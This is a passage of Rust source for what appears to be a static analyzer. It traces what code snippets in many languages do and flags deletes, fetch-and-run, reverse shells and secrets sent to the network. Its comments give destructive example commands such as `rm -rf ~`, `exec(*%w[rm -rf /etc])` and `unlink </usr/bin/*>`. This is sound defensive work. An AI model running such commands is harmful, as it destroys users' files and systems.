/// `spans` is the [`loops::group_spans`] table of the stream `toks` is a tail of.
fn bracketed_list(
    toks: &[Tok],
    spans: &[u32],
    vars: &HashMap<String, String>,
) -> Option<Vec<String>> {
    let close = match toks.first()? {
        Tok::Punct('[') => ']',
        Tok::Punct('(') => ')',
        _ => return None,
    };
    let end = loops::end_of(spans, 0).filter(|&e| toks.get(e) == Some(&Tok::Punct(close)))?;
    let inner = &toks[1..end];
    if close == ')' && !inner.contains(&Tok::Punct(',')) {
        return None;
    }
    split_args(inner)
        .into_iter()
        .map(|a| literal(a, vars))
        .collect()
}

/// The arguments a process builder's chained calls add after `toks[end]` (Rust `.arg(X)`,
/// `.args([..])`), and whether all of them are known (the list stops at the first computed one).
/// Other chained calls (`.current_dir(..)`, `.env(..)`, `.status()`) add nothing.
fn builder_args(
    toks: &[Tok],
    mut end: usize,
    vars: &HashMap<String, String>,
) -> (Vec<String>, bool) {
    let mut out = Vec::new();
    while let (Some(Tok::Punct('.')), Some(Tok::Ident(m))) = (toks.get(end), toks.get(end + 1)) {
        let Some((inner, next)) = call_args(toks, end + 2) else {
            break;
        };
        let added = match m.as_str() {
            "arg" => literal(inner, vars).map(|a| vec![a]),
            "args" => {
                let list = match inner {
                    [Tok::Punct('&'), rest @ ..] => rest,
                    _ => inner,
                };
                literal_list(list, vars)
            }
            _ => Some(Vec::new()),
        };
        match added {
            Some(a) => out.extend(a),
            None => return (out, false),
        }
        end = next;
    }
    (out, true)
}

/// Perl and Ruby flatten lists into an argv (`system qw(rm -rf), $ENV{HOME}`, `system @c`,
/// `exec(*%w[rm -rf /etc])`): the argv when at least one argument is a list and all are known.
fn spread_argv(parts: &[&[Tok]], vars: &HashMap<String, String>) -> Option<Vec<String>> {
    let mut argv = Vec::new();
    let mut spread = false;
    for part in parts {
        let part = match part {
            [Tok::Punct('*'), rest @ ..] => rest,
            _ => part,
        };
        if let Some(items) = list_value(part, vars) {
            argv.extend(items);
            spread = true;
        } else {
            argv.push(literal(part, vars)?);
        }
    }
    (spread && !argv.is_empty()).then_some(argv)
}

/// A list literal's strings, or the items of a list variable assigned earlier.
fn list_value(part: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<String>> {
    literal_list(part, vars).or_else(|| match part {
        [Tok::Ident(n)] => vars
            .get(&list_key(n))
            .map(|items| items.split(LIST_SEP).map(str::to_string).collect()),
        _ => None,
    })
}

/// Strings of a list literal `[…]` (or Perl/Ruby parenthesised list), when all are literals.
fn literal_list(arg: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<String>> {
    let inner = match (arg.first(), arg.last()) {
        (Some(Tok::Punct('[')), Some(Tok::Punct(']'))) => &arg[1..arg.len() - 1],
        _ => return None,
    };
    split_args(inner)
        .into_iter()
        .map(|a| literal(a, vars))
        .collect()
}

/// An argv list literal whose program is known and some of whose arguments are computed at run
/// time (`["git", "init", "-q", d]`, `["pytest", *files]`): those are [`UNKNOWN_ARG`].
fn partial_list(arg: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<String>> {
    let inner = match (arg.first(), arg.last()) {
        (Some(Tok::Punct('[')), Some(Tok::Punct(']'))) if arg.len() > 2 => &arg[1..arg.len() - 1],
        _ => return None,
    };
    let items = split_args(inner);
    let program = literal(items.first()?, vars)?;
    // A shell or an interpreter given code computed at run time stays dynamic code (and a
    // download reaching it is fetch-and-run).
    if runs_code_argument(program.rsplit('/').next().unwrap_or(&program)) {
        return None;
    }
    let mut argv = vec![program];
    argv.extend(
        items[1..]
            .iter()
            .map(|a| literal(a, vars).unwrap_or_else(|| UNKNOWN_ARG.to_string())),
    );
    Some(argv)
}

/// Resolve a path argument: home and root expressions, literals, known variables.
fn resolve_path(arg: &[Tok], v: &Vocab, vars: &HashMap<String, String>) -> Option<String> {
    let mut home = false;
    let mut parts: Vec<String> = Vec::new();
    for (j, t) in arg.iter().enumerate() {
        // `require('os')`, `__import__('os')`: module names, not path parts.
        if j >= 2
            && matches!(arg[j - 1], Tok::Punct('('))
            && matches!(&arg[j - 2], Tok::Ident(m) if matches!(m.as_str(), "require" | "__import__" | "import" | "importlib.import_module"))
        {
            continue;
        }
        match t {
            Tok::Ident(name) => {
                let last = name.rsplit('.').next().unwrap_or(name);
                if let Some(val) = vars.get(name) {
                    parts.push(val.clone());
                } else if matches!(
                    last,
                    "HOME"
                        | "$HOME"
                        | "USERPROFILE"
                        | "home"
                        | "homedir"
                        | "expanduser"
                        | "my_home"
                        | "NSHomeDirectory"
                        | "homeDirectoryForCurrentUser"
                        | "getHomeDirectory"
                        | "getHomeDir"
                        | "home_dir"
                        | "UserHomeDir"
                ) && in_list(name, &v.home)
                    || matches!(last, "HOME" | "USERPROFILE")
                {
                    home = true;
                } else if in_list(name, &v.home) {
                    // Environment accessors: home only with a "HOME" key (checked on the strings).
                } else if matches!(arg.get(j + 1), Some(Tok::Punct('('))) {
                    // A path constructor (`Path('/')`, `File.join(…)`, `os.path.join(…)`).
                } else {
                    return None;
                }
            }
            Tok::Str(s) if s == "HOME" || s == "USERPROFILE" || s == "user.home" => home = true,
            Tok::Str(s) => parts.push(s.clone()),
            _ => {}
        }
    }
    let mut path = if home { "~".to_string() } else { String::new() };
    for p in parts {
        if p.is_empty() {
            continue;
        }
        if p.starts_with('~') || p.starts_with('/') {
            if p.starts_with('~') || path.is_empty() || !home {
                path = p;
            } else {
                path.push_str(&p);
            }
        } else if path.is_empty() {
            path = p;
        } else {
            if !path.ends_with('/') {
                path.push('/');
            }
            path.push_str(&p);
        }
    }
    (!path.is_empty()).then_some(path)
}

/// Import aliases: `import os as o` (o → os), `from shutil import rmtree as r` (r → shutil.rmtree),
/// `const cp = require('child_process')`, `import * as cp from 'child_process'`,
/// `import { execSync as run } from 'child_process'`.
fn import_aliases(toks: &[Tok]) -> HashMap<String, String> {
    let mut out = HashMap::new();
    // Where the next `}` is, from every token (one pass; a search per `{` is quadratic).
    let closes = distances_to_next(toks, |t| matches!(t, Tok::Punct('}')));
    let next_close = |i: usize| match closes.get(i) {
        Some(&d) if i + (d as usize) < toks.len() => Some(i + d as usize),
        _ => None,
    };
    let ident = |i: usize| match toks.get(i) {
        Some(Tok::Ident(s)) => Some(s.as_str()),
        _ => None,
    };
    for i in 0..toks.len() {
        // `import('child_process').then(cp => cp.exec(…))`, `.then(({exec}) => exec(…))`,
        // `.then(function (cp) { … })`: the callback's parameter is the module.
        if let (
            Some("import" | "require"),
            Some(Tok::Punct('(')),
            Some(Tok::Str(m)),
            Some(Tok::Punct(')')),
            Some(Tok::Punct('.')),
            Some("then"),
            Some(Tok::Punct('(')),
        ) = (
            ident(i),
            toks.get(i + 1),
            toks.get(i + 2),
            toks.get(i + 3),
            toks.get(i + 4),
            ident(i + 5),
            toks.get(i + 6),
        ) {
            let m = m.trim_start_matches("node:");
            let mut j = i + 7;
            if matches!(ident(j), Some("async" | "function")) {
                j += 1;
            }
            if matches!(toks.get(j), Some(Tok::Punct('('))) {
                j += 1;
            }
            if matches!(toks.get(j), Some(Tok::Punct('{'))) {
                j += 1;
                while let Some(name) = ident(j) {
                    let local = if matches!(toks.get(j + 1), Some(Tok::Punct(':'))) {
                        j += 2;
                        ident(j).unwrap_or(name)
                    } else {
                        name
                    };
                    out.insert(local.to_string(), format!("{m}.{name}"));
                    j += 1;
                    if !matches!(toks.get(j), Some(Tok::Punct(','))) {
                        break;
                    }
                    j += 1;
                }
            } else if let Some(y) = ident(j) {
                out.insert(y.to_string(), m.to_string());
            }
        }
        // nox: `@nox.session … def tests(s):` hands the session to the first parameter.
        if ident(i) == Some("nox.session") && i > 0 && toks[i - 1] == Tok::Punct('@') {
            if let Some(def) = (i + 1..toks.len().min(i + 64)).find(|&k| ident(k) == Some("def")) {
                if let (Some(Tok::Punct('(')), Some(p)) = (toks.get(def + 2), ident(def + 3)) {
                    out.insert(p.to_string(), "session".to_string());
                }
            }
        }
        match ident(i) {
            // Lua `local o = os`: the module under another name.
            Some("local") => {
                if let (Some(y), Some(Tok::Punct('=')), Some(m @ ("os" | "io"))) =
                    (ident(i + 1), toks.get(i + 2), ident(i + 3))
                {
                    out.insert(y.to_string(), m.to_string());
                }
            }
            Some("import") => {
                // `import X as Y` (Python) / `import * as Y from 'X'` (JS).
                if let (Some(x), Some("as"), Some(y)) = (ident(i + 1), ident(i + 2), ident(i + 3)) {
                    out.insert(y.to_string(), x.to_string());
                }
                if let (
                    Some(Tok::Punct('*')),
                    Some("as"),
                    Some(y),
                    Some("from"),
                    Some(Tok::Str(m)),
                ) = (
                    toks.get(i + 1),
                    ident(i + 2),
                    ident(i + 3),
                    ident(i + 4),
                    toks.get(i + 5),
                ) {
                    out.insert(y.to_string(), m.trim_start_matches("node:").to_string());
                }
                if matches!(toks.get(i + 1), Some(Tok::Punct('{'))) {
                    let close = next_close(i);
                    if let Some(close) = close {
                        if let (Some("from"), Some(Tok::Str(m))) =
                            (ident(close + 1), toks.get(close + 2))
                        {
                            let m = m.trim_start_matches("node:");
                            let mut j = i + 2;
                            while j < close {
                                if let Some(name) = ident(j) {
                                    let local = if ident(j + 1) == Some("as") {
                                        ident(j + 2).unwrap_or(name)
                                    } else {
                                        name
                                    };
                                    out.insert(local.to_string(), format!("{m}.{name}"));
                                    if ident(j + 1) == Some("as") {
                                        j += 2;
                                    }
                                }
                                j += 1;
                            }
                        }
                    }
                }
            }
            Some("from") => {
                // `from X import a, b as c`
                if let (Some(x), Some("import")) = (ident(i + 1), ident(i + 2)) {
                    let mut j = i + 3;
                    while let Some(name) = ident(j) {
                        if ident(j + 1) == Some("as") {
                            if let Some(local) = ident(j + 2) {
                                out.insert(local.to_string(), format!("{x}.{name}"));
                            }
                            j += 3;
                        } else {
                            out.insert(name.to_string(), format!("{x}.{name}"));
                            j += 1;
                        }
                        if matches!(toks.get(j), Some(Tok::Punct(','))) {
                            j += 1;
                        } else {
                            break;
                        }
                    }
                }
            }
            // `const {execFileSync: x, spawn} = require('child_process')`
            _ if matches!(toks.get(i), Some(Tok::Punct('{'))) => {
                let close = next_close(i);
                if let Some(close) = close {
                    if let (
                        Some(Tok::Punct('=')),
                        Some("require"),
                        Some(Tok::Punct('(')),
                        Some(Tok::Str(m)),
                    ) = (
                        toks.get(close + 1),
                        ident(close + 2),
                        toks.get(close + 3),
                        toks.get(close + 4),
                    ) {
                        let m = m.trim_start_matches("node:");
                        let mut j = i + 1;
                        while j < close {
                            if let Some(name) = ident(j) {
                                if matches!(toks.get(j + 1), Some(Tok::Punct(':'))) {
                                    if let Some(local) = ident(j + 2) {
                                        out.insert(local.to_string(), format!("{m}.{name}"));
                                    }
                                    j += 2;
                                } else {
                                    out.insert(name.to_string(), format!("{m}.{name}"));
                                }
                            }
                            j += 1;
                        }
                    }
                }
            }
            // `const cp = require('child_process')`, `const cp = await import('child_process')`
            Some(y) if matches!(toks.get(i + 1), Some(Tok::Punct('='))) => {
                let at = if ident(i + 2) == Some("await") {
                    i + 3
                } else {
                    i + 2
                };
                if let (Some("require" | "import"), Some(Tok::Punct('(')), Some(Tok::Str(m))) =
                    (ident(at), toks.get(at + 1), toks.get(at + 2))
                {
                    out.insert(y.to_string(), m.trim_start_matches("node:").to_string());
                }
            }
            _ => {}
        }
    }
    out
}

/// Rewrite a call path through the import aliases (`o.system` → `os.system`).
fn unalias(name: &str, aliases: &HashMap<String, String>) -> String {
    let (head, rest) = match name.split_once('.') {
        Some((h, r)) => (h, Some(r)),
        None => (name, None),
    };
    match (aliases.get(head), rest) {
        (Some(full), Some(r)) => format!("{full}.{r}"),
        (Some(full), None) => full.clone(),
        (None, _) => name.to_string(),
    }
}

/// Python's `sys.argv` (checked by parts: a quoted `sys.argv` reads like a rule id to the
/// documentation test).
/// `items` as string literals separated by commas (the elements of a list).
fn push_string_list(out: &mut Vec<Tok>, items: &[String]) {
    for (k, a) in items.iter().enumerate() {
        if k > 0 {
            out.push(Tok::Punct(','));
        }
        out.push(Tok::Str(a.clone()));
    }
}

fn is_python_argv(name: &str) -> bool {
    name.split_once('.') == Some(("sys", "argv"))
}

/// Replace expressions that read a known input with its value (a string literal), so the rest of
/// the analysis sees `os.system("rm -rf ~")` in `python3 -c 'os.system(sys.argv[1])' 'rm -rf ~'`.
fn substitute_inputs(toks: Vec<Tok>, inputs: &Inputs) -> Vec<Tok> {
    let mut out: Vec<Tok> = Vec::with_capacity(toks.len());
    let stdin_line = inputs
        .stdin
        .as_ref()
        .map(|s| s.lines().next().unwrap_or("").to_string());
    // Perl's bare `shift` outside any sub takes the next program argument.
    let shifts_argv = !inputs.argv.is_empty()
        && !toks
            .iter()
            .any(|t| matches!(t, Tok::Ident(n) if n == "sub"));
    let mut shifted = 0;
    let mut i = 0;
    while i < toks.len() {
        let t = &toks[i];
        let next = |k: usize| toks.get(i + k);
        let index = |k: usize| match (next(k), next(k + 1), next(k + 2)) {
            (Some(Tok::Punct('[')), Some(Tok::Num(n)), Some(Tok::Punct(']'))) => {
                n.parse::<usize>().ok()
            }
            _ => None,
        };
        let key = |k: usize| match (next(k), next(k + 1), next(k + 2)) {
            (
                Some(Tok::Punct('[' | '(' | '{')),
                Some(Tok::Str(s) | Tok::Ident(s)),
                Some(Tok::Punct(']' | ')' | '}')),
            ) => Some(s.clone()),
            _ => None,
        };
        let mut replaced: Option<(String, usize)> = None;
        if let Tok::Ident(name) = t {
            let last = name.rsplit('.').next().unwrap_or(name);
            match name.as_str() {
                // `system @ARGV`, `rmtree(@ARGV)`, Ruby's `system(*ARGV)`: the arguments as a
                // list of strings.
                "@ARGV" | "ARGV"
                    if (name == "@ARGV" || index(1).is_none()) && !inputs.argv.is_empty() =>
                {
                    if name == "ARGV" && out.last() == Some(&Tok::Punct('*')) {
                        out.pop();
                    }
                    push_string_list(&mut out, &inputs.argv);
                    i += 1;
                    continue;
                }
                // `sys.argv[1:]`: the arguments from the first on, as a list of strings
                // (`os.execvp(sys.argv[1], sys.argv[1:])` runs them as a command).
                n if is_python_argv(n)
                    && !inputs.argv.is_empty()
                    && matches!(
                        (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3), toks.get(i + 4)),
                        (Some(Tok::Punct('[')), Some(Tok::Num(k)), Some(Tok::Punct(':')), Some(Tok::Punct(']'))) if k == "1"
                    ) =>
                {
                    out.push(Tok::Punct('['));
                    push_string_list(&mut out, &inputs.argv);
                    out.push(Tok::Punct(']'));
                    i += 5;
                    continue;
                }
                // sys.argv[N], process.argv[N] (node -e: argv[1] is the first argument), ARGV[N], $ARGV[N], arg[N]
                n if is_python_argv(n) || matches!(n, "ARGV" | "$ARGV" | "arg") => {
                    if let Some(n) = index(1) {
                        let pos = if is_python_argv(name) || name == "arg" {
                            n.checked_sub(1)
                        } else {
                            Some(n)
                        };
                        if let Some(v) = pos.and_then(|p| inputs.argv.get(p)) {
                            replaced = Some((v.clone(), 4));
                        }
                    }
                }
                // `process.argv[1]` (node -e) and PHP's `$argv[1]` are the first argument (index 0
                // names the program or script).
                "process.argv" | "$argv" => {
                    if let Some(v) = index(1)
                        .and_then(|n| n.checked_sub(1))
                        .and_then(|p| inputs.argv.get(p))
                    {
                        replaced = Some((v.clone(), 4));
                    }
                }
                // `Deno.args[0]` is the first argument; Ruby's `ARGV.first` / `ARGV.shift` too.
                "Deno.args" => {
                    if let Some(v) = index(1).and_then(|p| inputs.argv.get(p)) {
                        replaced = Some((v.clone(), 4));
                    }
                }
                "ARGV.first" | "ARGV.shift" | "$*.first" => {
                    if let Some(v) = inputs.argv.first() {
                        replaced = Some((v.clone(), 1));
                    }
                }
                // Perl: `shift`, `shift()`, `shift @ARGV`, `shift(@ARGV)`.
                "shift" if shifts_argv => {
                    let argv_ident =
                        |t: Option<&Tok>| matches!(t, Some(Tok::Ident(n)) if n == "@ARGV");
                    let width = match (next(1), next(2), next(3)) {
                        (Some(Tok::Punct('(')), Some(Tok::Punct(')')), _) => 3,
                        (Some(Tok::Punct('(')), a, Some(Tok::Punct(')'))) if argv_ident(a) => 4,
                        (a, _, _) if argv_ident(a) => 2,
                        _ => 1,
                    };
                    if let Some(v) = inputs.argv.get(shifted) {
                        shifted += 1;
                        replaced = Some((v.clone(), width));
                    }
                }
                "$_" => {
                    if let Some(l) = &stdin_line {
                        replaced = Some((l.clone(), 1));
                    }
                }
                _ => {}
            }
            // Whole stdin: sys.stdin.read(), open('/dev/stdin').read(), $stdin.read, STDIN.read,
            // io.read("*a"), readFileSync(0)/("/dev/stdin").
            if replaced.is_none() {
                if let Some(text) = &inputs.stdin {
                    let reads_stdin = matches!(
                        name.as_str(),
                        "sys.stdin.read"
                            | "sys.stdin.readline"
                            | "$stdin.read"
                            | "STDIN.read"
                            | "io.read"
                            | "input"
                            | "gets"
                    ) || (last == "readFileSync"
                        && matches!(next(2), Some(Tok::Num(n)) if n == "0"))
                        || (last == "readFileSync"
                            && matches!(next(2), Some(Tok::Str(p)) if p == "/dev/stdin"));
                    if reads_stdin {
                        let close = toks[i + 1..]
                            .iter()
                            .position(|t| matches!(t, Tok::Punct(')')))
                            .map(|p| p + 2)
                            .filter(|_| matches!(next(1), Some(Tok::Punct('('))))
                            .unwrap_or(1);
                        replaced = Some((text.clone(), close));
                    }
                }
            }
            // os.environ["X"], os.getenv("X"), ENV["X"], $ENV{X}, process.env.X, os.getenv("X") in Lua.
            if replaced.is_none() {
                if let Some(k) = key(1) {
                    if matches!(last, "environ" | "getenv" | "ENV" | "$ENV" | "get" | "env") {
                        if let Some(v) = inputs.env.get(&k) {
                            replaced = Some((v.clone(), 4));
                        }
                    }
                }
                if let Some(var) = name.strip_prefix("process.env.") {
                    if let Some(v) = inputs.env.get(var) {
                        replaced = Some((v.clone(), 1));
                    }
                }
            }
        }
        // open('/dev/stdin').read()
        if replaced.is_none() && matches!(t, Tok::Ident(n) if n == "open") {
            if let (
                Some(Tok::Punct('(')),
                Some(Tok::Str(p)),
                Some(Tok::Punct(')')),
                Some(Tok::Punct('.')),
                Some(Tok::Ident(r)),
            ) = (next(1), next(2), next(3), next(4), next(5))
            {
                if p == "/dev/stdin" && r.starts_with("read") {
                    if let Some(text) = &inputs.stdin {
                        let skip = if matches!(next(6), Some(Tok::Punct('(')))
                            && matches!(next(7), Some(Tok::Punct(')')))
                        {
                            8
                        } else {
                            6
                        };
                        replaced = Some((text.clone(), skip));
                    }
                }
            }
        }
        match replaced {
            Some((v, n)) => {
                out.push(Tok::Str(v));
                i += n;
            }
            None => {
                out.push(t.clone());
                i += 1;
            }
        }
    }
    out
}

/// Evaluator calls whose argument is code in the same language (not a module or file name).
const CODE_EVALS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "Function",
    "runInThisContext",
    "runInNewContext",
    "runInContext",
    "Script",
    "instance_eval",
    "class_eval",
    "module_eval",
    "assert",
    "create_function",
    "loadstring",
    "load",
    "runsource",
    "runcode",
];

/// How deep literal code handed to an evaluator (`exec("…")`, `eval "…"`) is followed.
const MAX_EVAL_DEPTH: usize = 8;

/// Fold what literal code run by an evaluator does into the outer report.
fn merge(r: &mut Report, inner: Report) {
    r.runs.extend(inner.runs);
    r.deletes.extend(inner.deletes);
    r.dynamic.extend(inner.dynamic);
    r.writes.extend(inner.writes);
    r.fetch_exec |= inner.fetch_exec;
    r.runs_input |= inner.runs_input;
    r.fork_loop |= inner.fork_loop;
    r.memory_loop |= inner.memory_loop;
    r.secret_to_network |= inner.secret_to_network;
    r.stdin_to_network |= inner.stdin_to_network;
    r.secret_variable_to_network |= inner.secret_variable_to_network;
    r.vendor_secret_elsewhere |= inner.vendor_secret_elsewhere;
    r.reverse_shell |= inner.reverse_shell;
    r.incomplete |= inner.incomplete;
    r.too_deep |= inner.too_deep;
    r.too_long |= inner.too_long;
}

/// Perl's glob operator written as the call it is: `unlink </usr/bin/*>` is `unlink
/// glob("/usr/bin/*")`. A `<…>` holding a path or a pattern (a `/`, `~`, `*`, `?` or `[`, no
/// blank, not a filehandle or a `$` variable) is a glob; `<STDIN>`, `<$fh>` and comparisons stay.
/// `None` when the code has none.
fn perl_glob_operators(code: &str) -> Option<String> {
    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let re =
        RE.get_or_init(|| regex::Regex::new(r#"<([^<>\s$"'=][^<>\s"']*)>"#).expect("static regex"));
    let mut changed = false;
    let out = re.replace_all(code, |c: &regex::Captures| {
        let inner = &c[1];
        if inner.contains(['/', '~', '*', '?', '[']) {
            changed = true;
            format!("glob(\"{inner}\")")
        } else {
            c[0].to_string()
        }
    });
    changed.then(|| out.into_owned())
}

fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) -> Report {
    // Python and JavaScript: calls of the snippet's own functions, methods, lambdas and aliases
    // written out (see [`syntax`]), for the token analysis to judge.
    let lowered = syntax::lower(lang, v, code);
    let code = lowered.as_deref().unwrap_or(code);
    let globbed = (lang == Lang::Perl)
        .then(|| perl_glob_operators(code))
        .flatten();
    let code = globbed.as_deref().unwrap_or(code);
    let mut raw = tokenize(code, lang.style());
    // The running interpreter, wherever it is named (also in a function never called, which
    // the lowering leaves as written): `[sys.executable, "-m", "tool"]` runs Python.
    for t in raw.iter_mut() {
        if let Some(program) = match t {
            Tok::Ident(n) => syntax::running_interpreter(lang, n),
            _ => None,
        } {
            *t = Tok::Str(program.into());
        }
    }
    let too_long = raw.len() >= tokens::MAX_TOKENS;
    let obfuscated = raw.iter().any(|t| {
        matches!(t, Tok::Ident(n) if OBFUSCATORS.iter().chain(&["reversed", "strrev", "char"])
            .any(|o| dotted_tail(n, o)))
    });
    let mut toks = tokens::normalize(raw, lang.style());
    if lang == Lang::Native {
        toks = without_argument_labels(toks);
    }
    if !inputs.argv.is_empty() || inputs.stdin.is_some() || !inputs.env.is_empty() {
        toks = substitute_inputs(toks, inputs);
    }
    let aliases = import_aliases(&toks);
    if !aliases.is_empty() {
        for t in toks.iter_mut() {
            if let Tok::Ident(name) = t {
                let full = unalias(name, &aliases);
                if full != *name {
                    *name = full;
                }
            }
        }
    }
    // `rmtree(@ARGV)` / `FileUtils.rm_rf ARGV` with the arguments on the command line, and
    // `for d in ['/etc', '/usr']: rmtree(d)`, `%w[a b].each { |d| … }`, `foreach ([…] as $d)`:
    // the code runs once per element, so it is analysed once per element with the element in
    // place of the variable (instead of once with an unknown variable).
    let whole_argv = (!inputs.argv.is_empty())
        .then(|| {
            toks.iter().find_map(|t| match t {
                // (Perl's `@ARGV` became the list itself in `substitute_inputs`.)
                Tok::Ident(n) if matches!(n.as_str(), "ARGV" | "$argv") => {
                    Some((n.clone(), inputs.argv.clone()))
                }
                _ => None,
            })
        })
        .flatten();
    let binding = whole_argv.or_else(|| {
        loops::binding(&toks, lang, &|a| {
            path_value(a, v, &HashMap::new(), &HashMap::new())
        })
    });
    let mut report = match binding.filter(|_| depth < MAX_EVAL_DEPTH) {
        Some((name, values)) => {
            let mut r = Report::default();
            for value in values.iter().take(loops::MAX_VALUES) {
                if out_of_time() {
                    r.incomplete = true;
                    break;
                }
                let bound = loops::substitute(&toks, &name, value);
                merge(&mut r, scan(lang, v, &bound, obfuscated, inputs, depth + 1));
            }
            dedupe(&mut r);
            r
        }
        None => scan(lang, v, &toks, obfuscated, inputs, depth),
    };
    report.too_long |= too_long;
    report
}

/// For each token, how many tokens on the next token that `is` (itself included) is, or the
/// distance to the end of the stream when none follows: one backward pass.
fn distances_to_next(toks: &[Tok], is: impl Fn(&Tok) -> bool) -> Vec<u32> {
    let mut out = vec![0u32; toks.len()];
    let mut next = toks.len();
    for k in (0..toks.len()).rev() {
        if is(&toks[k]) {
            next = k;
        }
        out[k] = u32::try_from(next - k).unwrap_or(u32::MAX);
    }
    out
}

/// Swift, Kotlin, C# and Dart name their arguments (`removeItem(atPath: p)`,
/// `Directory.Delete(path: p, recursive: true)`): the label is dropped so the value is the
/// argument. Only right after `(` or `,` (a `? :` or a `case x:` is not there).
fn without_argument_labels(toks: Vec<Tok>) -> Vec<Tok> {
    let mut out: Vec<Tok> = Vec::with_capacity(toks.len());
    let mut i = 0;
    while i < toks.len() {
        if let (Tok::Ident(_), Some(Tok::Punct(':')), Some(Tok::Punct('(' | ','))) =
            (&toks[i], toks.get(i + 1), out.last())
        {
            // `::` is a path separator (C++, Rust) and `a, b := …` a Go declaration, not labels.
            if !matches!(toks.get(i + 2), Some(Tok::Punct(':' | '='))) {
                i += 2;
                continue;
            }
        }
        out.push(toks[i].clone());
        i += 1;
    }
    out
}

/// Drop repeated effects (code outside a loop is seen once per element).
fn dedupe(r: &mut Report) {
    fn unique<T: PartialEq + Clone>(v: &mut Vec<T>) {
        let mut seen: Vec<T> = Vec::with_capacity(v.len());
        v.retain(|x| {
            let new = !seen.contains(x);
            if new {
                seen.push(x.clone());
            }
            new
        });
    }
    unique(&mut r.runs);
    unique(&mut r.deletes);
    unique(&mut r.dynamic);
    unique(&mut r.writes);
}

/// Go's short declarations (`h := v`, `h, err := os.UserHomeDir()`) and Python's walrus read as
/// plain assignments of the first name (`h = v`); `None` when the stream has none.
fn short_declarations(toks: &[Tok]) -> Option<Vec<Tok>> {
    let declares = |i: usize| {
        matches!(toks.get(i), Some(Tok::Punct(':')))
            && matches!(toks.get(i + 1), Some(Tok::Punct('=')))
    };
    if !(0..toks.len()).any(declares) {
        return None;
    }
    let mut out = Vec::with_capacity(toks.len());
    let mut i = 0;
    while i < toks.len() {
        // `a, b := …` → `a = …`
        if let (Tok::Ident(_), Some(Tok::Punct(',')), Some(Tok::Ident(_))) =
            (&toks[i], toks.get(i + 1), toks.get(i + 2))
        {
            if declares(i + 3) {
                out.push(toks[i].clone());
                out.push(Tok::Punct('='));
                i += 5;
                continue;
            }
        }
        if matches!(toks[i], Tok::Ident(_)) && declares(i + 1) {
            out.push(toks[i].clone());
            out.push(Tok::Punct('='));
            i += 3;
            continue;
        }
        out.push(toks[i].clone());
        i += 1;
    }
    Some(out)
}

/// What a token stream does (the body of [`with_vocab`], also run once per loop element).
fn scan(
    lang: Lang,
    v: &Vocab,
    toks: &[Tok],
    obfuscated: bool,
    inputs: &Inputs,
    depth: usize,
) -> Report {
    let normalized = short_declarations(toks);
    let toks = normalized.as_deref().unwrap_or(toks);
    let spans = loops::group_spans(toks);
    // How far each token is from the next `;` or `,` (where an assignment's value ends).
    let seps = distances_to_next(toks, |t| matches!(t, Tok::Punct(';' | ',')));
    let mut var_bytes = 0usize;
    let mut r = Report::default();
    let mut vars: HashMap<String, String> = HashMap::new();
    let mut paths: HashMap<String, String> = HashMap::new();
    let mut funcs: HashMap<String, String> = HashMap::new();
    let mut fetch = false;
    let mut stdin = false;
    let mut dynamic_eval = false;
    let mut dynamic_run = false;
    let mut fork = false;
    let mut secrets = false;
    let mut send = false;
    let mut socket = false;
    let mut net_call = false;
    let mut dns = false;
    let mut url_literal = false;
    let mut hosts: Vec<String> = Vec::new();
    let mut named_secrets: Vec<String> = Vec::new();
    let mut interpolated_cmd = false;
    let mut evaluated_files: Vec<String> = Vec::new();
    // `os.chdir('/')`, `process.chdir(os.homedir())`, `Dir.chdir(Dir.home)`: the directory that
    // relative paths of later deletes, writes and commands mean (and where in the report those
    // later effects start).
    let mut cwd: Option<(String, usize, usize, usize)> = inputs
        .cwd
        .clone()
        .filter(|d| d.starts_with(['/', '~']))
        .map(|d| (d, 0, 0, 0));
    let inherited_cwd = cwd.is_some();
    for (i, t) in toks.iter().enumerate() {
        // The clock is read every 64 tokens: nothing on ordinary code, a bound on hostile code.
        if i % 64 == 63 && out_of_time() {
            r.incomplete = true;
            break;
        }
        let name = match t {
            Tok::Cmd(c) => {
                // `` `#{cmd}` ``, `` `$cmd` ``: a command taken from data, unless the value is
                // known (`` `rm -rf #{ENV["HOME"]}` ``, `$c = "…"; `$c``).
                let c = &interpolate(c, &vars);
                interpolated_cmd |= c.contains("#{") || c.contains('$');
                if names_secret_file(c) {
                    secrets = true;
                }
                r.runs
                    .push((Run::Shell(c.clone()), "a command literal".into()));
                continue;
            }
            Tok::Str(s) => {
                if names_secret_file(s) {
                    secrets = true;
                }
                if s.starts_with("http://") || s.starts_with("https://") {
                    url_literal = true;
                }
                if let Some(h) = literal_host(s) {
                    hosts.push(h);
                }
                if s.starts_with("php://stdin") {
                    stdin = true;
                }
                if v.fetch_modules.iter().any(|m| m == s) {
                    fetch = true;
                }
                continue;
            }
            Tok::Ident(n) => n.as_str(),
            _ => continue,
        };
        // `name += …`, or a second assignment: the value is no longer known.
        let reassigned = matches!(toks.get(i + 1), Some(Tok::Punct('+' | '.' | '-')))
            && matches!(toks.get(i + 2), Some(Tok::Punct('=')));
        if reassigned
            || (matches!(toks.get(i + 1), Some(Tok::Punct('=')))
                && (vars.contains_key(name) || paths.contains_key(name)))
        {
            vars.remove(name);
            paths.remove(name);
            if reassigned {
                continue;
            }
        }
        // `name = literal` / `name = home()`: remember simple values.
        else if matches!(toks.get(i + 1), Some(Tok::Punct('=')))
            && !matches!(toks.get(i + 2), Some(Tok::Punct('=' | '>')))
        {
            let end = seps[i + 2..]
                .first()
                .map_or(toks.len(), |&d| i + 2 + d as usize);
            let value = &toks[i + 2..end];
            let key = name.trim_start_matches(['$', '@']).to_string();
            // `my @c = ("rm", "-rf", $ENV{HOME})`, `c = %w[rm -rf /etc]`: a list of literals,
            // remembered for calls that spread it (`system @c`, `system(*c)`).
            if let Some(items) =
                bracketed_list(&toks[i + 2..], &spans[i + 2..], &vars).filter(|items| {
                    var_bytes + items.iter().map(String::len).sum::<usize>() < MAX_VAR_BYTES
                })
            {
                let joined = items.join(LIST_SEP);
                var_bytes += joined.len();
                vars.insert(list_key(&key), joined);
            }
            let known = literal(value, &vars).filter(|l| var_bytes + 2 * l.len() < MAX_VAR_BYTES);
            if known.is_none() {
                // Reassigned to something not known: the old value is gone.
